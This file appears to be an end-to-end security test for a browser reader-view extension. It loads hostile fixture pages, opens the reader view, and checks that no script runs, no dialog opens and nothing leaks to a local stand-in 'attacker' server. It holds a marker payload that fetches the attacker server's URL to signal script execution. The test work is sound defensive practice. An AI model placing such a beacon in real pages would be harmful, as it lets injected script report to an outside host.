// The hostile payload table (tests/fixtures/hostile) in each engine: every payload page is opened and turned into a
// reader view with a real toolbar click. Then in the reader: no payload script ran (marker), the article HTML holds
// to the invariants, the attacker's server (a second server) heard nothing once the click was made, the reader
// loaded nothing but the article's own images (Resource Timing, engine-independent), and no dialog opened there.
// npm test runs this copy in Firefox. In Chromium the same table runs in tests/e2e/security.spec.ts, which sees every
// request the extension itself makes (CDP) and its console; the server-side "attacker heard" count used here cannot
// tell the extension from the page, and Chromium's tab loads a table's own background image only once the
// extraction's layout reads reach it, after the click.
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type FixtureServer } from '../server';
import { violations } from '../../fixtures/hostile/invariants';
import { fill, hostilePage, PAYLOADS, type PageOptions } from '../../fixtures/hostile/payloads';
import type { Tab } from './engine';
import { ENGINE, useEngine } from './setup';

/** What the reader page fetched from outside the extension, and every URL its images may load. */
function readerLoads(tab: Tab, origin: string) {
  return tab.evaluate((own) => {
    const fetched = performance.getEntriesByType('resource').map((r) => r.name)
      .filter((u) => !u.startsWith(own) && !u.startsWith('blob:') && !u.startsWith('data:'));
    const allowed = Array.from(document.images).flatMap((i) => [i.src, i.currentSrc, ...(i.getAttribute('srcset') ?? '').split(',').map((c) => {
      const u = c.trim().split(/\s+/)[0];
      return u ? new URL(u, location.href).href : '';
    })]).filter(Boolean);
    return { fetched, allowed };
  }, origin);
}

describe(`hostile pages (${ENGINE})`, () => {
  const engine = useEngine();
  let attacker: FixtureServer;
  let env: PageOptions;
  beforeAll(async () => {
    attacker = await startServer(`${import.meta.dirname}/../../fixtures/hostile/attacker-root`);
    const e = engine();
    env = {
      evil: attacker.url,
      img: `${e.server.url}/img/council-hall.png`,
      mark: `window.__bacaPwned=1,fetch('${attacker.url}/ran?at='+location.protocol)`,
    };
    e.server.route((req, res) => {
      const m = /^\/hostile\/([\w-]+)\/(\d+)$/.exec(req.url ?? '');
      const payload = m ? PAYLOADS[m[1] as keyof typeof PAYLOADS]?.[Number(m[2])] : undefined;
      if (!payload) return false;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(hostilePage(payload, env));
      return true;
    });
  });
  afterAll(async () => {
    await attacker?.close();
  });

  for (const [category, list] of Object.entries(PAYLOADS)) {
    it(`${category}: ${list.length} payloads, nothing runs, leaks or opens a dialog in the reader`, async () => {
      const e = engine();
      const failures: string[] = [];
      for (const [i, p] of list.entries()) {
        const tab = await e.open(`/hostile/${category}/${i}`);
        try {
          const pageUrl = await tab.url();
          if (p.control && !(await tab.evaluateExpression(p.control))) failures.push(`${p.title}: control failed, the payload is not live`);
          // The page's own requests (its live payloads) are over once it has loaded: count from here on.
          await tab.waitFor(() => document.readyState === 'complete');
          // Some of the page's own loads (a table's background attribute) start only once its style and layout are
          // computed, which a tab that never painted leaves to the extraction's layout reads: compute them now, then
          // wait until the attacker has heard nothing more for 300 ms (at most 2 s), so what comes later is the reader's.
          await tab.evaluate(() => new Promise<number>((r) => requestAnimationFrame(() => r(document.body.getBoundingClientRect().height))))
            .catch(() => 0);
          for (let last = -1, quietSince = Date.now(), t0 = Date.now(); Date.now() - t0 < 2000;) {
            if (attacker.requests.length !== last) [last, quietSince] = [attacker.requests.length, Date.now()];
            else if (Date.now() - quietSince >= 300) break;
            await new Promise((r) => setTimeout(r, 50));
          }
          const heard = attacker.requests.length;
          const dialogs = e.dialogs.length;
          await e.openReader(tab);
          await tab.waitFor(() => Array.from(document.images).every((img) => img.complete || img.getBoundingClientRect().top > innerHeight), undefined, 3000)
            .catch(() => undefined);
          const problems: string[] = [];
          if (new URL(await tab.url()).searchParams.get('url') !== pageUrl) problems.push(`reader for ${await tab.url()}`);
          if (await tab.evaluate(() => (window as unknown as { __bacaPwned?: unknown }).__bacaPwned !== undefined)) problems.push('script ran in the reader');
          if ((await tab.count('.article-body')) === 0) problems.push('no article body');
          else {
            const { html, text } = await tab.evaluate(() => {
              const body = document.querySelector<HTMLElement>('.article-body')!;
              return { html: body.innerHTML, text: body.innerText };
            });
            const holder = new JSDOM('').window.document.createElement('div');
            holder.innerHTML = html;
            problems.push(...violations(holder, { evil: env.evil, readerExtras: { attrs: ['class', 'tabindex'] } }));
            for (const el of Array.from(holder.querySelectorAll('[class]'))) {
              if (el.getAttribute('class') !== 'table-wrap') problems.push(`page class ${el.getAttribute('class')}`);
            }
            for (const s of p.expected.notHtml ?? []) if (html.toLowerCase().includes(fill(s, env).toLowerCase())) problems.push(`html has ${s}`);
            for (const s of p.expected.text ?? []) if (!text.includes(s)) problems.push(`text lacks ${s}`);
            for (const s of p.expected.notText ?? []) if (text.includes(s)) problems.push(`text has ${s}`);
          }
          const lead = await tab.attr('.lead-image img', 'src');
          if (lead && !lead.startsWith(e.server.url)) problems.push(`lead image ${lead}`);
          const loads = await readerLoads(tab, e.extensionOrigin);
          for (const u of loads.fetched) if (!loads.allowed.includes(u) || u.startsWith(env.evil)) problems.push(`reader loaded ${u}`);
          // A payload that ran on the page itself reports "at=http:"; anything else the attacker heard is a leak.
          const leaks = attacker.requests.slice(heard).filter((u) => !u.includes('at=http'));
          if (leaks.length) problems.push(`attacker heard ${leaks.join(', ')}`);
          const opened = e.dialogs.slice(dialogs).filter((d) => d.url.startsWith(e.extensionOrigin));
          if (opened.length) problems.push(`dialog in the reader: ${opened.map((d) => `${d.type} ${d.message}`).join(', ')}`);
          if (problems.length) failures.push(`${p.title}: ${problems.join('; ')}`);
        } catch (err) {
          failures.push(`${p.title}: ${err instanceof Error ? err.message.split('\n')[0] : String(err)}`);
        } finally {
          await tab.close();
        }
      }
      expect(failures).toEqual([]);
      expect(attacker.requests.filter((u) => /extension/.test(u))).toEqual([]);
    }, 300_000);
  }
});
